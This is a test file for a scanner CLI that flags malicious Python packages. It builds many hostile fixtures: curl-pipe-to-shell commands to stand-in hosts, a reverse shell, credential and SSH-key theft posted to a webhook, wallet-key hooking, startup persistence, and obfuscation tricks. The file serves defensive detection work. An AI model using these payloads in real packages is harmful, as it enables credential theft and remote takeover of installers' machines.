// Issue 10, items 2 and 13 through the bundled CLI (`node cli.js inspect <file> --json`, built from src/
// into a temp dir as the release is): a payload in a setup.py that is a tar hard link, a GNU sparse
// member, a bzip2 or lzma zip entry, or utf-7 source is found at its file:line; what cannot be read
// is a gap and the verdict is unscannable.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTarGz, makeWheel, methodZip, paxMember, rawTarMember, tarOfMembers } from './hostile.js';
import { gzipSync } from 'node:zlib';

const root = mkdtempSync(join(tmpdir(), 'pmg-dist-inspect-'));
const out = join(root, 'dist');
afterAll(() => rmSync(root, { recursive: true, force: true }));
beforeAll(() => {
  execFileSync(process.execPath, ['build.mjs', out], { stdio: 'pipe' });
}, 300_000);

// The README's example payload: exec of base64-decoded code that downloads and runs a script.
const SETUP = [
  '# setup for p',
  'import base64',
  'from setuptools import setup',
  '',
  'setup(name="p", version="1.0")',
  'exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNoIHwgc2giKQo="))',
  '',
].join('\n');
const PAYLOAD_LINE = 6;
const PKG_INFO = 'Metadata-Version: 2.1\nName: p\nVersion: 1.0\n';

interface Inspected {
  status: string;
  verdict: string;
  evidence: { rule: string; path: string; line: number }[];
  gaps?: { stage: string; path?: string; reason: string }[];
}

function inspect(name: string, bytes: Buffer): Inspected {
  const file = join(root, name);
  writeFileSync(file, bytes);
  let stdout: string;
  try {
    stdout = execFileSync(process.execPath, [join(out, 'cli.js'), 'inspect', file, '--json'], {
      encoding: 'utf8',
      maxBuffer: 64 * 1024 * 1024,
    });
  } catch (err) {
    // Exit 1 for a malicious or unscannable verdict: the JSON line is still printed.
    stdout = (err as { stdout: string }).stdout;
  }
  return JSON.parse(stdout.trim().split('\n').pop()!);
}

const utf7 = (s: string) =>
  s === '' ? '' : `+${Buffer.from(s, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`;

describe('inspect through dist/cli.js', () => {
  it.each([
    [
      'a setup.py stored as a tar hard link',
      'hardlink-1.0.tar.gz',
      () =>
        makeTarGz([
          { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
          { path: 'p-1.0/p/data.py', data: SETUP },
          { path: 'p-1.0/setup.py', type: 'hardlink', linkTarget: 'p-1.0/p/data.py' },
        ]),
    ],
    [
      'a setup.py stored as a GNU sparse member (pax 0.1)',
      'sparse-1.0.tar.gz',
      () =>
        gzipSync(
          tarOfMembers(
            rawTarMember({ name: 'p-1.0/PKG-INFO', size: PKG_INFO.length, type: '0', data: PKG_INFO }),
            paxMember([
              ['GNU.sparse.size', String(SETUP.length)],
              ['GNU.sparse.map', `0,${SETUP.length}`],
              ['GNU.sparse.name', 'p-1.0/setup.py'],
            ]),
            rawTarMember({
              name: 'p-1.0/GNUSparseFile.0/setup.py',
              size: SETUP.length,
              type: '0',
              data: SETUP,
            }),
          ),
        ),
    ],
    [
      'a setup.py compressed with bzip2 in a zip sdist',
      'bzip2-1.0.zip',
      () =>
        methodZip([
          { name: 'p-1.0/PKG-INFO', data: PKG_INFO, method: 8 },
          { name: 'p-1.0/setup.py', data: SETUP, method: 12 },
        ]),
    ],
    [
      'a setup.py compressed with lzma in a zip sdist',
      'lzma-1.0.zip',
      () =>
        methodZip([
          { name: 'p-1.0/PKG-INFO', data: PKG_INFO, method: 0 },
          { name: 'p-1.0/setup.py', data: SETUP, method: 14 },
        ]),
    ],
    [
      'a setup.py written in utf-7',
      'utf7-1.0.tar.gz',
      () =>
        makeTarGz([
          { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
          {
            path: 'p-1.0/setup.py',
            data: `# -*- coding: utf-7 -*-\n${SETUP.split('\n').slice(1).map(utf7).join('\n')}`,
          },
        ]),
    ],
  ])('finds the payload in %s at setup.py:line', (_what, name, build) => {
    const result = inspect(name, build());
    expect(result.status).toBe('ok');
    expect(result.gaps).toBeUndefined();
    const hits = result.evidence.filter((e) => e.path === 'p-1.0/setup.py');
    // The utf-7 file keeps its lines: its declaration replaces the first (comment) line.
    expect(hits.map((e) => e.line)).toContain(PAYLOAD_LINE);
    expect(hits.map((e) => e.rule)).toContain('exec-decoded-payload');
    expect(result.verdict).not.toBe('benign');
  });

  it('reads a .pth as site.py does (UTF-8), whatever coding it declares', () => {
    // In utf-7 the first line's "+AAo-" is a newline: decoded that way, the import line would be line 3.
    const pth = "# coding: utf-7 +AAo-\nimport os;os.system('curl -s http://198.51.100.7/x | sh')\n";
    const result = inspect(
      'pth-1.0-py3-none-any.whl',
      makeWheel({ name: 'p', version: '1.0', files: { 'p.pth': pth } }),
    );
    const hits = result.evidence.filter((e) => e.path === 'p.pth' && e.rule === 'pth-executable');
    expect(hits.map((e) => e.line)).toEqual([2]);
  });

  it('reports what it cannot read as a gap, and the verdict as unscannable', () => {
    const undecodable = inspect(
      'ebcdic-1.0.tar.gz',
      makeTarGz([
        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
        { path: 'p-1.0/setup.py', data: '# coding: cp037\n\x89\x94\x97\x96\x99\xa3' },
      ]),
    );
    expect(undecodable).toMatchObject({ status: 'ok', verdict: 'unscannable' });
    expect(undecodable.gaps).toContainEqual(
      expect.objectContaining({ stage: 'decode', path: 'p-1.0/setup.py' }),
    );

    const zstd = inspect(
      'zstd-1.0.zip',
      methodZip([
        { name: 'p-1.0/PKG-INFO', data: PKG_INFO, method: 8 },
        { name: 'p-1.0/setup.py', data: SETUP, method: 93 },
      ]),
    );
    expect(zstd).toMatchObject({ status: 'ok', verdict: 'unscannable' });
    expect(zstd.gaps).toContainEqual(
      expect.objectContaining({
        stage: 'archive',
        path: 'p-1.0/setup.py',
        reason: 'zip compression method 93, zstandard is not supported by the reader',
      }),
    );

    const outside = inspect(
      'outside-1.0.tar.gz',
      makeTarGz([
        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
        { path: 'p-1.0/setup.py', type: 'symlink', linkTarget: '/tmp/setup.py' },
      ]),
    );
    expect(outside).toMatchObject({ status: 'ok', verdict: 'unscannable' });
    expect(outside.gaps).toContainEqual(expect.objectContaining({ path: 'p-1.0/setup.py' }));
  });
});

describe('a padded payload through dist/cli.js', () => {
  it('is scored by its own file, named in the notes, and stays malicious', () => {
    // Evidence only in a function the API calls (nothing decides alone): the model decides, on the unit.
    const core =
      'import os, requests, platform\n\ndef render(rows):\n    home = os.path.expanduser("~")\n    data = {}\n    for name in (".aws/credentials", ".ssh/id_rsa", ".git-credentials"):\n        try:\n            data[name] = open(os.path.join(home, name)).read()\n        except OSError:\n            pass\n    requests.post("https://discord.com/api/webhooks/1/x", json={"host": platform.node(), "files": data})\n    return rows\n';
    const pad = Array.from({ length: 60 }, (_, i) => ({
      path: `p-1.0/p/util${i}.py`,
      data: `def width_${i}(text):\n    return max((len(line) for line in text.splitlines()), default=0)\n`,
    }));
    const padded = inspect(
      'padded-1.0.tar.gz',
      makeTarGz([
        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
        { path: 'p-1.0/p/__init__.py', data: 'from .core import render\n' },
        { path: 'p-1.0/p/core.py', data: core },
        ...pad,
      ]),
    ) as Inspected & { notes?: string[]; scoredAlone?: string };
    expect(padded).toMatchObject({ status: 'ok', verdict: 'malicious' });
    expect(padded.notes?.join('\n')).toMatch(/scored by p-1\.0\/p\/core\.py alone/);
    expect(padded).toMatchObject({ scoredAlone: 'p-1.0/p/core.py' });
  });
});

describe('payloads rewritten to hide from the rules, through dist/cli.js', () => {
  const codes = (s: string) => `[chr(c) for c in [${[...s].map((c) => c.charCodeAt(0)).join(', ')}]]`;
  const curl = Buffer.from('curl -s http://198.51.100.23/x.sh | sh').toString('base64');
  it.each([
    [
      'builtins fetched by character codes through an aliased join',
      'p/__init__.py',
      `_ = "".join\n__ = globals()[_(${codes('__builtins__')})].get(_(${codes('__import__')}))\nm = __(data[3:9])\n`,
      'dynamic-import',
      3,
    ],
    [
      'a file written from decoded bytes and started by the name it was written to',
      'p/__init__.py',
      `import os, base64\ndef w():\n    p = "C:\\\\Users\\\\Public\\\\p." + "v" + "bs"\n    with open(p, "wb") as fp:\n        fp.write(base64.b64decode(BLOB))\n    os.system(p)\nw()\n`,
      'binary-dropper',
      6,
    ],
    [
      "a key library's function replaced when the package is imported",
      'p/__init__.py',
      'from eth_account import Account\n_create = Account.create\ndef create(*a):\n    acct = _create(*a)\n    grab(acct.key)\n    return acct\nAccount.create = create\n',
      'wallet-monkeypatch',
      7,
    ],
    [
      'a payload run through names Python reads as exec and subprocess (NFKC look-alikes)',
      'p/__init__.py',
      'import \u{1d634}\u{1d636}\u{1d623}\u{1d631}\u{1d633}\u{1d630}\u{1d624}\u{1d626}\u{1d634}\u{1d634}\n\u{1d634}\u{1d636}\u{1d623}\u{1d631}\u{1d633}\u{1d630}\u{1d624}\u{1d626}\u{1d634}\u{1d634}.Popen("curl -s https://dl.example/x | sh", shell=True)\n',
      'dangerous-command',
      2,
    ],
    [
      "a command decoded by the file's own wrapper",
      'setup.py',
      `import base64, os\ndef d(s):\n    return base64.b64decode(s).decode()\nos.system(d("${curl}"))\n`,
      'dangerous-command',
      4,
    ],
  ])('%s fails at its file:line', (_, path, source, rule, line) => {
    const result = inspect(
      `hidden-${rule}-1.0.tar.gz`,
      makeTarGz([
        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
        { path: `p-1.0/${path}`, data: source },
      ]),
    );
    expect(result).toMatchObject({ status: 'ok', verdict: 'malicious' });
    expect(result.evidence).toContainEqual(expect.objectContaining({ rule, path: `p-1.0/${path}`, line }));
  });
});

describe('runtime-only implants that decide alone, through dist/cli.js', () => {
  // A trojanized client among honest modules: nothing runs at install or import, so only the shape decides.
  const honest = Array.from({ length: 8 }, (_, i) => ({
    path: `p-1.0/p/util${i}.py`,
    data: `def add${i}(a, b):\n    """Adds."""\n    return a + b + ${i}\n`,
  }));
  it.each([
    [
      "the client's keys posted to a fixed, decoded address, reply and errors dropped",
      'p/client.py',
      `import base64, requests\nclass Client:\n    def __init__(self, ak, secret):\n        self._ak, self._secret = ak, secret\n        try:\n            data = {"ak": self._ak, "secret": self._secret}\n            requests.post(url=base64.b64decode("aHR0cHM6Ly9jMi5leGFtcGxlL2s=").decode(), json=data)\n        except:\n            pass\n`,
      'secret-beacon',
      7,
    ],
    [
      "a shell on a socket's descriptors inside an image loader",
      'p/image.py',
      `def open(fp):\n    import socket, os, pty\n    s = socket.socket()\n    s.connect(("198.51.100.7", 4444))\n    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n    pty.spawn("/bin/sh")\n`,
      'reverse-shell',
      6,
    ],
    [
      'a download appended to ~/.bashrc',
      'p/colors.py',
      `import os\ndef reset():\n    rc = os.path.expanduser("~/.bashrc")\n    with open(rc, "a") as f:\n        f.write("curl -s https://dl.example/p.sh | bash")\n`,
      'startup-file-write',
      4,
    ],
    [
      "an encoded payload's loader written into the Windows Startup folder from a thread",
      'p/mult.py',
      `import os, threading\ndef mult(a, b):\n    threading.Thread(target=_mult).start()\n    return a * b\ndef _mult():\n    folder = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")\n    open(os.path.join(folder, ".setup.pyw"), "w").write("import pickle,zlib\\npickle.loads(zlib.decompress(b'x'))")\n`,
      'startup-file-write',
      7,
    ],
    [
      "a vault posted to a decoded raw-IP address through a helper's parameter",
      'p/scanner.py',
      `import base64\nfrom requests import post\ndef scan(payload):\n    def send(where, what):\n        try:\n            post(where, data={"license": base64.b64encode(what.encode())})\n        except:\n            pass\n    hidden = base64.b64decode("aHR0cDovLzE5OC41MS4xMDAuNzo1MDAwL3Bvc3Q=")\n    send(hidden.decode("ascii"), payload)\n`,
      'hidden-endpoint',
      6,
    ],
    [
      "a server's reply decoded and run as a shell command inside a chat client",
      'p/messages.py',
      `import base64, os, requests\nclass Messages:\n    def send(self, text):\n        resp = requests.get("https://tg.example/t")\n        os.system(base64.b64decode(resp.text).decode("utf-8"))\n        return text\n`,
      'remote-command',
      5,
    ],
  ])('%s fails at its file:line', (_, path, source, rule, line) => {
    const result = inspect(
      `runtime-${rule}-1.0.tar.gz`,
      makeTarGz([
        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
        { path: 'p-1.0/p/__init__.py', data: '' },
        ...honest,
        { path: `p-1.0/${path}`, data: source },
      ]),
    );
    expect(result).toMatchObject({ status: 'ok', verdict: 'malicious' });
    expect(result.evidence).toContainEqual(
      expect.objectContaining({
        rule,
        path: `p-1.0/${path}`,
        line,
        severity: 'critical',
        context: 'runtime',
      }),
    );
  });
});

describe('code kept where the parser does not look, through dist/cli.js', () => {
  const CURL = "import os\nos.system('curl -s http://198.51.100.23/x.sh | sh')\n";
  it.each([
    [
      'a data file setup.py runs with exec(open(...).read())',
      {
        'setup.py':
          "from setuptools import setup\nexec(open('p/_version.txt').read())\nsetup(name='p', version='1.0')\n",
        'p/_version.txt': CURL,
      },
      'p/_version.txt',
      'install',
    ],
    [
      'a data file the package runs with runpy.run_path when imported',
      {
        'p/__init__.py':
          "import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'res.txt'))\n",
        'p/res.txt': CURL,
      },
      'p/res.txt',
      'import',
    ],
  ])('%s is read as the module it becomes', (_, files, path, context) => {
    const result = inspect(
      `run-file-${context}-1.0.tar.gz`,
      makeTarGz([
        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
        ...Object.entries(files).map(([p, data]) => ({ path: `p-1.0/${p}`, data })),
      ]),
    );
    expect(result).toMatchObject({ status: 'ok', verdict: 'malicious' });
    expect(result.evidence).toContainEqual(
      expect.objectContaining({ rule: 'dangerous-command', path: `p-1.0/${path}`, line: 2, context }),
    );
  });

  it.each([
    [
      "libc's system() through ctypes",
      'import ctypes\nctypes.CDLL(None).system(b"curl -s http://198.51.100.23/x.sh | sh")\n',
    ],
    [
      'os.system handed to a thread',
      'import os, threading\nthreading.Thread(target=os.system, args=("curl -s http://198.51.100.23/x.sh | sh",)).start()\n',
    ],
    [
      'os.system handed to map',
      'import os\nlist(map(os.system, ["curl -s http://198.51.100.23/x.sh | sh"]))\n',
    ],
    [
      'os.system handed to a thread by position',
      'import os, threading\nthreading.Thread(None, os.system, None, ("curl -s http://198.51.100.23/x.sh | sh",)).start()\n',
    ],
    [
      'os.system called through operator.methodcaller',
      'import os, operator\noperator.methodcaller("system", "curl -s http://198.51.100.23/x.sh | sh")(os)\n',
    ],
    [
      'a system read by getattr with a split name, handed to sorted as its key',
      'import os\nsorted(["curl -s http://198.51.100.23/x.sh | sh"], key=getattr(os, "sys" + "tem"))\n',
    ],
    [
      "libc's system() read by subscript",
      'import ctypes\nctypes.CDLL(None)["system"](b"curl -s http://198.51.100.23/x.sh | sh")\n',
    ],
  ])('%s is a call of it', (what, source) => {
    const result = inspect(
      `handed-${what.length}-1.0.tar.gz`,
      makeTarGz([
        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
        { path: 'p-1.0/p/__init__.py', data: source },
      ]),
    );
    expect(result).toMatchObject({ status: 'ok', verdict: 'malicious' });
    expect(result.evidence).toContainEqual(
      expect.objectContaining({ rule: 'dangerous-command', path: 'p-1.0/p/__init__.py', line: 2 }),
    );
  });

  it('a compressed file setup.py runs as Python is a gap: unscannable, naming the file and the line that runs it', () => {
    const result = inspect(
      'run-file-blob-1.0.tar.gz',
      makeTarGz([
        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
        {
          path: 'p-1.0/setup.py',
          data: "import zlib\nfrom setuptools import setup\nexec(zlib.decompress(open('p/blob.bin', 'rb').read()))\nsetup(name='p', version='1.0')\n",
        },
        { path: 'p-1.0/p/__init__.py', data: '' },
        { path: 'p-1.0/p/blob.bin', data: Buffer.from([0x78, 0x9c, 0xcb, 0x2f, 0xce, 0x00, 0xff, 0x80]) },
      ]),
    );
    expect(['unscannable', 'malicious']).toContain(result.verdict);
    expect(result.gaps).toContainEqual(
      expect.objectContaining({
        path: 'p-1.0/p/blob.bin',
        reason: expect.stringContaining('(p-1.0/setup.py:3)'),
      }),
    );
  });

  // CPython 3.12's magic number, then PEP 552's flags word: 0 timestamp, 1 unchecked hash, 3 checked hash.
  const pyc = (flags: number) =>
    Buffer.from([0xcb, 0x0d, 0x0d, 0x0a, flags, 0, 0, 0, ...Array(8).fill(0), 0xe3]);
  const honestCore = 'def add(a, b):\n    return a + b\n';
  it.each([
    ['a module shipped only as bytecode', { 'p/core.pyc': pyc(0) }, 'p/core.pyc'],
    [
      'bytecode Python loads without checking it against the honest source beside it',
      { 'p/core.py': honestCore, 'p/__pycache__/core.cpython-312.pyc': pyc(1) },
      'p/__pycache__/core.cpython-312.pyc',
    ],
  ])('%s is a gap: unscannable, naming the file', (_, files, path) => {
    const result = inspect(
      `bytecode-${path.length}-1.0-py3-none-any.whl`,
      makeWheel({
        name: 'p',
        version: '1.0',
        files: { 'p/__init__.py': 'from p.core import add\n', ...files },
      }),
    );
    expect(result.verdict).toBe('unscannable');
    expect(result.gaps).toContainEqual(
      expect.objectContaining({ path, reason: expect.stringContaining(path) }),
    );
  });

  it('leaves a bytecode cache that Python checks against its source to the source', () => {
    const files = {
      'p/core.py': honestCore,
      'p/__pycache__/core.cpython-312.pyc': pyc(0),
      'p/__pycache__/x.cpython-312.pyc': pyc(3),
    };
    const result = inspect(
      'checked-cache-1.0-py3-none-any.whl',
      makeWheel({
        name: 'p',
        version: '1.0',
        files: { 'p/__init__.py': 'from p.core import add\n', ...files },
      }),
    );
    expect(result.gaps ?? []).toEqual([]);
    expect(result.verdict).not.toBe('unscannable');
  });
});
